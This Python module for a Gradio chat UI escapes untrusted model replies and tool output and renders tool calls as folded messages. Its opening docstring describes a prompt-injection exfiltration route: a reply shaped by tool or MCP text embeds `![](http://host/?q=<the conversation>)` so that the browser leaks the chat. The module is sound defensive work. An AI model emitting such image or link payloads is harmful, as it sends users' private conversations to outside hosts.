"""What the chat shows of text nobody here wrote: the model's replies, the user's words, tools.

The chat renders Markdown, and Gradio's sanitizer keeps `<img>` (it strips only
event handlers): a reply holding `![](http://host/?q=<the conversation>)` or
`<img src=...>` would make the browser fetch that URL and leak the conversation.
Replies come from a model that reads tool results and MCP servers' words, so
they are untrusted. `safe_markdown` therefore shows every such text as text:
no raw HTML (`<`, `>` and `&` become entities) and no image or link syntax
(brackets and backslashes are escaped, so `![...](...)` and `[...](...)` stay
literal), and bare URLs are kept from becoming links (a click would leak too).

`tool_message` renders one tool call as a chat "thought": a folded accordion
titled with the tool's name and its time, holding the arguments and the result
in code blocks (fenced longer than any backtick run inside them).
"""

from __future__ import annotations

import json
import re
from typing import Any

_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "[": "\\[", "]": "\\]", "\\": "\\\\"}
_SPECIAL = re.compile(r"[&<>\[\]\\]")
_TICKS = re.compile(r"`+")
_AUTOLINK = re.compile(r"(?i)(?<=\w)(?=://)|(?<=\bwww)(?=\.)")
MAX_SHOWN_CHARS = 2000  # of a tool's arguments or result, in the chat
STATUS_WORDS = {
    "running": "running…",
    "done": "",
    "failed": "failed",
    "refused": "not allowed",
    "cancelled": "stopped",
}


def safe_markdown(text: str) -> str:
    """`text` as the chat shows it: Markdown emphasis still works, nothing fetches or renders
    as HTML, and no URL becomes a link."""
    escaped = _SPECIAL.sub(lambda m: _ESCAPES[m.group(0)], text)
    # GFM turns bare URLs into links; an escaped ":" or "." (still shown as is) stops it.
    return _AUTOLINK.sub(lambda m: "\\", escaped)


def code_block(text: str, language: str = "") -> str:
    """`text` in a fenced code block that nothing inside can close."""
    longest = max((len(m.group(0)) for m in _TICKS.finditer(text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def _shown(value: Any) -> tuple[str, str]:
    """(text, language) of a value for a code block, cut to `MAX_SHOWN_CHARS`."""
    if isinstance(value, str):
        try:
            value = json.loads(value)
        except (json.JSONDecodeError, ValueError):
            text = value
            return (text if len(text) <= MAX_SHOWN_CHARS else text[:MAX_SHOWN_CHARS] + " …"), ""
    text = json.dumps(value, ensure_ascii=False, indent=1)
    if len(text) > MAX_SHOWN_CHARS:
        text = text[:MAX_SHOWN_CHARS] + " …"
    return text, "json"


def tool_message(record: Any) -> dict[str, Any]:
    """A `ToolRecord` as a chat message: folded once done, open with a spinner while it runs."""
    status = getattr(record, "status", "done")
    arguments, language = _shown(getattr(record, "arguments", {}) or {})
    parts = [f"**Arguments**\n\n{code_block(arguments, language)}"]
    if status != "running":
        outcome, language = _shown(getattr(record, "error", None) or getattr(record, "result", ""))
        label = "Result" if status == "done" else "Error"
        parts.append(f"**{label}**\n\n{code_block(outcome, language)}")
    source = getattr(record, "source", "") or "unknown source"
    took = "" if status == "running" else f" · {float(getattr(record, 'seconds', 0.0)):.2f} s"
    parts.append(f"*{safe_markdown(source)}{took}*")
    word = STATUS_WORDS.get(status, status)
    title = f"Tool: {safe_markdown(getattr(record, 'name', '') or 'call')}"
    metadata: dict[str, Any] = {
        "title": title + (f" ({word})" if word else ""),
        "id": getattr(record, "call_id", ""),
        "status": "pending" if status == "running" else "done",
    }
    if status != "running":
        metadata["duration"] = round(float(getattr(record, "seconds", 0.0)), 2)
    return {"role": "assistant", "content": "\n\n".join(parts), "metadata": metadata}
